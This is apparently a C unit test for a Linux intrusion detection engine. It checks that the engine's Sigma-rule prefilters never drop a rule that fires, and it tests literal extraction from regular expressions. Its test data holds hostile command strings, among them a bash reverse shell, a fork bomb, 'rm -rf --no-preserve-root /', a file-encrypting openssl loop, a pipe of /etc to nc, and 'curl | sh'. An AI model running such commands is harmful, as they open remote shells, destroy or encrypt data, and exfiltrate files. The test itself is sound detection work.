/*
 * test_sigma_prefilter.c - the engine's prefilters (the key index, the
 * record shapes, the literal prefilter: detect_int.h) never drop a rule
 * that fires: hn_ruleset_match fires exactly the rules that evaluating
 * every rule of every record of the event fires, over many generated
 * events made of the rules' own values (so that many rules come close to
 * firing, and many fire).  Rules: ours (rules/) and, when present, the
 * SigmaHQ Linux corpus (../shared/corpus/sigma-linux).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include <cmocka.h>

#include "detect/detect.h"
#include "detect/detect_int.h"
#include "event/event.h"
#include "logsrc/logsrc.h"

#define CORPUS "../shared/corpus/sigma-linux"
#define EVENTS 30000

static uint64_t seed = 0x2545F4914F6CDD1DULL;

static uint64_t rnd(void)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return seed;
}

/* The values the rules are written with, wildcards dropped. */
static char **pool;
static size_t npool, cap_pool;

static void pool_add(const char *v)
{
	char buf[512];
	size_t n = 0;

	for (; *v && n < sizeof(buf) - 1; v++)
		if (*v != '*' && *v != '?')
			buf[n++] = *v;
	buf[n] = '\0';
	if (!n)
		return;
	if (npool == cap_pool) {
		cap_pool = cap_pool ? cap_pool * 2 : 1024;
		pool = realloc(pool, cap_pool * sizeof(*pool));
		assert_non_null(pool);
	}
	pool[npool] = strdup(buf);
	assert_non_null(pool[npool]);
	npool++;
}

static const char *pick(void)
{
	/* plain words, and strings some rules' regular expressions match */
	static const char *const plain[] = {
		"/usr/bin/bash", "/tmp/x", "-c", "/etc/passwd", "sshd", "root",
		"/home/alice/.ssh/id_rsa", "abcdefghijklmnop2345.onion",
		"systemctl stop mysql nginx redis postgresql", "HOW_TO_DECRYPT_FILES.txt",
		"/var/tmp/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
		"for f in *; do openssl enc -aes-256-cbc -in $f -out $f.enc; done",
		"/inet/tcp/0/127.0.0.1/4444", "/memfd:x (deleted)", "[kworker/0:1]",
		"rm -rf --no-preserve-root /", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"python3 -c 'import socket,subprocess,os'", "echo aGVsbG8= | base64 -d | sh",
		"7z\ta -so /etc | nc 10.0.0.1 9", "f()\n{ f|f& };f", "nc\t-lp 9 > loot",
	};

	if (!npool || rnd() % 4 == 0)
		return plain[rnd() % (sizeof(plain) / sizeof(plain[0]))];
	return pool[rnd() % npool];
}

/* A string of 1..3 values, with a space or a slash between them. */
static void compose(char *out, size_t cap)
{
	unsigned k = 1 + (unsigned)(rnd() % 3);

	out[0] = '\0';
	for (unsigned i = 0; i < k; i++) {
		size_t l = strlen(out);
		snprintf(out + l, cap - l, "%s%s", i ? (rnd() % 2 ? " " : "/") : "", pick());
	}
}

static struct hn_event *make_event(void)
{
	static const uint16_t types[] = {
		HN_EV_PROCESS_START, HN_EV_PROCESS_START, HN_EV_PROCESS_START,
		HN_EV_FILE_CREATE, HN_EV_FILE_OPEN_WRITE, HN_EV_FILE_RENAME, HN_EV_FILE_DELETE,
		HN_EV_FILE_CHMOD, HN_EV_NET_CONNECT, HN_EV_NET_ACCEPT, HN_EV_DNS_QUERY,
		HN_EV_PTRACE, HN_EV_MEMFD_CREATE, HN_EV_MODULE_LOAD, HN_EV_LOG,
	};
	struct hn_event *ev;
	char a[600], b[600], args[1400];
	size_t n = 0;

	ev = hn_event_new(4096);
	assert_non_null(ev);
	ev->type = types[rnd() % (sizeof(types) / sizeof(types[0]))];
	ev->time = 1795773600000000000ULL;
	ev->proc.entity = 1 + rnd() % 100;
	ev->proc.pid = 100 + (uint32_t)(rnd() % 1000);
	ev->proc.uid = rnd() % 2 ? 0 : 1000;
	/* a web server's user now and then (auditd rules key on euid) */
	ev->proc.euid = rnd() % 4 ? ev->proc.uid : 33;
	snprintf(ev->proc.comm, sizeof(ev->proc.comm), "%.15s", pick());
	compose(a, sizeof(a));
	ev->proc.executable = hn_event_puts(ev, a);
	ev->cwd = hn_event_puts(ev, pick());
	switch (ev->type) {
	case HN_EV_PROCESS_START:
		compose(a, sizeof(a));
		ev->path = hn_event_puts(ev, a);
		ev->filename = rnd() % 2 ? ev->path : hn_event_puts(ev, pick());
		for (unsigned i = 0, k = 1 + (unsigned)(rnd() % 5); i < k; i++) {
			/* one value alone, as auditd rules name a0, a1... */
			if (rnd() % 2)
				compose(b, sizeof(b));
			else
				snprintf(b, sizeof(b), "%s", pick());
			size_t l = strlen(b) + 1;
			if (n + l > sizeof(args))
				break;
			memcpy(args + n, b, l);
			n += l;
			ev->argc++;
		}
		ev->args = hn_event_put(ev, args, n);
		ev->args_len = n;
		break;
	case HN_EV_NET_CONNECT:
	case HN_EV_NET_ACCEPT:
		ev->transport = 6;
		hn_addr_parse(rnd() % 2 ? "10.0.0.5" : "127.0.0.1", &ev->dst);
		ev->dst.family = AF_INET;
		ev->dst.port = (uint16_t)(rnd() % 2 ? 4444 : 443);
		hn_addr_parse("10.0.0.9", &ev->src);
		ev->src.family = AF_INET;
		ev->src.port = 40000;
		break;
	case HN_EV_DNS_QUERY:
		ev->dns_name = hn_event_puts(ev, pick());
		break;
	case HN_EV_LOG: {
		static const char *const progs[] = { "sshd", "sudo", "CRON", "kernel", "su" };
		compose(b, sizeof(b));
		ev->name = hn_event_puts(ev, progs[rnd() % 5]);
		ev->args = hn_event_put(ev, b, strlen(b) + 1);
		ev->args_len = strlen(b) + 1;
		break;
	}
	default:
		compose(a, sizeof(a));
		ev->path = hn_event_puts(ev, a);
		if (ev->type == HN_EV_FILE_RENAME) {
			compose(b, sizeof(b));
			ev->path2 = hn_event_puts(ev, b);
		}
		break;
	}
	return ev;
}

struct fired {
	const struct hn_ruleset *rs;
	unsigned char *by;      /* by rule index */
};

static void on_match(const struct hn_rule_info *rule, const struct hn_event *ev, void *arg)
{
	struct fired *f = arg;
	unsigned n = hn_ruleset_count(f->rs);

	(void)ev;
	for (unsigned i = 0; i < n; i++)
		if (hn_ruleset_rule(f->rs, i) == rule) {
			f->by[i]++;
			return;
		}
	fail_msg("a match of a rule the ruleset does not have");
}

/* Every rule of every record of ev, no prefilter. */
static void reference(const struct hn_ruleset *rs, const struct hn_event *ev,
		      const struct hn_det_parent *par, unsigned char *by)
{
	static struct det_rec rec;
	unsigned srcs = det_sources_of_event(ev), kinds = det_audit_kinds(ev);
	unsigned n = hn_ruleset_count(rs);

	for (int s = 0; s < HN_DS_COUNT; s++) {
		if (!(srcs & (1u << s)))
			continue;
		for (int k = 0; k < (s == HN_DS_AUDITD ? DET_AUDIT_COUNT : 1); k++) {
			if (s == HN_DS_AUDITD && !(kinds & (1u << k)))
				continue;
			det_rec_init(&rec, ev, par, (enum hn_det_source)s, k);
			for (unsigned i = 0; i < n; i++) {
				const struct det_rule *r = det_ruleset_rule(rs, i);
				if ((int)r->info.source == s && !by[i] && det_rule_eval(r, &rec))
					by[i] = 1;
			}
		}
	}
}

static void collect(const struct hn_ruleset *rs)
{
	for (unsigned i = 0; i < hn_ruleset_count(rs); i++) {
		const struct det_rule *r = det_ruleset_rule(rs, i);
		for (unsigned s = 0; s < r->nsel; s++)
			for (unsigned t = 0; t < r->sels[s].nitems; t++)
				for (unsigned v = 0; v < r->sels[s].items[t].nraw; v++)
					if (r->sels[s].items[t].raw[v])
						pool_add(r->sels[s].items[t].raw[v]);
	}
}

static void prefiltered_equals_every_rule(void **state)
{
	struct hn_ruleset *rs = hn_ruleset_new();
	struct stat st;
	struct hn_det_parent par = { .image = "/usr/bin/bash",
				     .args = "bash\0-c\0curl http://x | sh\0", .args_len = 28 };
	unsigned n, fired_total = 0, rules_fired = 0, wrong = 0;
	unsigned char *a, *b, *ever;

	(void)state;
	assert_non_null(rs);
	assert_true(hn_ruleset_load(rs, "rules", NULL, NULL) > 0);
	if (stat(CORPUS, &st) == 0) {
		assert_true(hn_ruleset_load(rs, CORPUS, NULL, NULL) > 0);
	} else {
		fprintf(stderr, "no %s: our rules only\n", CORPUS);
	}
	n = hn_ruleset_count(rs);
	collect(rs);
	a = calloc(n, 1);
	b = calloc(n, 1);
	ever = calloc(n, 1);
	assert_true(a && b && ever);
	for (unsigned e = 0; e < EVENTS; e++) {
		struct hn_event *ev = make_event();
		const struct hn_det_parent *p = rnd() % 2 ? &par : NULL;
		struct fired f = { rs, a };
		memset(a, 0, n);
		memset(b, 0, n);
		hn_ruleset_match(rs, ev, p, on_match, &f);
		reference(rs, ev, p, b);
		for (unsigned i = 0; i < n; i++) {
			if (a[i] != b[i] && ++wrong <= 10)
				fprintf(stderr, "event %u (type %u): %s:%d %s by the engine, %s by every rule\n",
					e, ev->type, hn_ruleset_rule(rs, i)->path,
					hn_ruleset_rule(rs, i)->line, a[i] ? "fired" : "not fired",
					b[i] ? "fired" : "not fired");
			fired_total += a[i];
			if (a[i] && !ever[i]) {
				ever[i] = 1;
				rules_fired++;
			}
		}
		hn_event_free(ev);
	}
	fprintf(stderr, "%u rules, %u events: %u matches of %u different rules, %u differences\n",
		n, EVENTS, fired_total, rules_fired, wrong);
	/* the events come close enough to the rules to make many fire */
	assert_true(fired_total >= EVENTS / 20);
	assert_true(rules_fired >= (n > 100 ? 40u : n / 4));
	assert_int_equal(wrong, 0);
	free(a);
	free(b);
	free(ever);
	hn_ruleset_free(rs);
	for (size_t i = 0; i < npool; i++)
		free(pool[i]);
	free(pool);
}

/* The literals read off regular expressions: what each pattern gives,
 * and that every subject it matches holds one of them (any case). */
static void regex_literals(void **state)
{
	static const struct {
		const char *re;
		const char *want;        /* the literals, '|'-joined; "" none */
		const char *subjects[3];
	} cases[] = {
		{ "/mail/tmp/[a-zA-Z0-9]{3}[0-9]{3}\\.tar\\.gz", "/mail/tmp/",
		  { "/var/mail/tmp/abc123.tar.gz", "/mail/tmp/xYz999.tar.gz" } },
		{ "[^/]{100,}$", "", { NULL } },
		{ "-(W|R)\\s?(\\s|\"|')([0-9a-fA-F]{2}\\s?){2,20}(\\s|\"|')", "", { NULL } },
		{ "(?i)curl.+(-d|--data)", "curl", { "CURL -x y -d @f", "curl --data x" } },
		{ "abc+d", "abc", { "abcccd", "xxabcd" } },
		{ "abcd?ef", "abc", { "abcef", "abcdef" } },
		{ "colou?r", "colo", { "color", "colour" } },
		{ "foo|barbaz", "foo|barbaz", { "xfoo", "barbaz!" } },
		{ "foo|x", "", { NULL } },
		{ "\\x41bcd", "", { NULL } },
		{ "a\\.b\\/cd", "a.b/cd", { "xa.b/cd" } },
		{ "[abc]def", "def", { "cdef" } },
		{ "^/usr/bin/(ba)?sh$", "/usr/bin/", { "/usr/bin/sh", "/usr/bin/bash" } },
		{ "\\d+\\.\\d+ secs", " secs", { "1.5 secs" } },
		{ "x{2,}yz", "", { NULL } },
		{ "(?x) a b c", "", { NULL } },
		{ "\\Qa.b\\E", "", { NULL } },
		{ "(?:ab)cd", "", { NULL } },
		{ "nc(at)? -e /bin/sh", " -e /bin/sh", { "ncat -e /bin/sh", "nc -e /bin/sh" } },
		/* a lazy or counted repeat ends the run */
		{ "ab+?cde", "cde", { "abbcde" } },
		{ "abcd{1,3}?efg", "abcd", { "abcddefg" } },
		{ "abc{2}def", "abc", { "abccdef" } },
		/* what the reader leaves alone */
		{ "zz(?ix)a bcd", "", { "zzabcd" } },
		{ "abc(*ACCEPT)defgh", "", { "abc" } },
		{ "q(?#[)ab|x(]yz)cdef", "", { "qab" } },
		{ "[[:]xy|abc:]]defg", "", { NULL } },
		{ "abcx{,3}", "", { NULL } },
		{ "ab{ 1 }cdef", "", { NULL } },
	};
	char lits[16][512];

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int n = det_re_literals(cases[i].re, lits, 16);
		char got[2048] = "";
		for (int k = 0; k < n; k++) {
			if (k)
				strcat(got, "|");
			strcat(got, lits[k]);
		}
		if (strcmp(got, cases[i].want))
			fail_msg("%s: literals '%s', want '%s'", cases[i].re, got, cases[i].want);
		for (int j = 0; j < 3 && cases[i].subjects[j]; j++) {
			const char *sub = cases[i].subjects[j];
			int err;
			PCRE2_SIZE off;
			pcre2_code *re = pcre2_compile((PCRE2_SPTR)cases[i].re, PCRE2_ZERO_TERMINATED,
						       0, &err, &off, NULL);
			pcre2_match_data *md;
			bool found = false;
			assert_non_null(re);
			md = pcre2_match_data_create_from_pattern(re, NULL);
			/* the subject is one the pattern matches (case as written) */
			if (pcre2_match(re, (PCRE2_SPTR)sub, strlen(sub), 0, 0, md, NULL) < 0)
				fail_msg("%s does not match %s", cases[i].re, sub);
			for (int k = 0; k < n && !found; k++)
				found = strcasestr(sub, lits[k]) != NULL;
			if (n > 0 && !found)
				fail_msg("%s matches '%s', which has none of '%s'", cases[i].re, sub, got);
			pcre2_match_data_free(md);
			pcre2_code_free(re);
		}
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(regex_literals),
		cmocka_unit_test(prefiltered_equals_every_rule),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
